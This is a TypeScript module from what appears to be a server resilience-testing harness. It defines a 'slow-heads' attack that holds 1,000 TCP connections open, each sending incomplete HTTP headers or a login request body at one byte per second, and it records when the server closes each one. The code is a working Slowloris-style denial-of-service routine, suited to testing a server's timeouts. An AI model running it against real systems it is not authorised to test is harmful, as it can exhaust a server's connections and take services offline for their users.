import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Target } from "../attack.ts";

const AT_ONCE = 1_000;
const DRIP_MS = 1_000;
const HEADS = [
  "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ",
  "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{",
] as const;

export const attack: Attack = {
  name: "slow-heads",
  title: "keeps 1,000 connections open whose headers or bodies arrive a byte a second",
  as: "anyone",
  async run(target, signal) {
    const attackOn = async (index: number) => {
      while (!signal.aborted) await drip(target, HEADS[index % HEADS.length]!, signal);
    };
    await Promise.all(Array.from({ length: AT_ONCE }, (_, index) => attackOn(index)));
  },
};

async function drip({ url, count }: Target, head: string, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on("error", () => {});
  socket.resume();
  const start = performance.now();
  socket.write(head);
  const more = setInterval(() => socket.write("x"), DRIP_MS);
  await Promise.race([once(socket, "close"), once(signal, "abort")]);
  clearInterval(more);
  const seconds = Math.round((performance.now() - start) / 1_000);
  if (!signal.aborted) count(`closed after ${seconds} s`);
  socket.destroy();
  // A connection that cannot be opened at all closes at once.
  if (seconds === 0) await sleep(DRIP_MS);
}
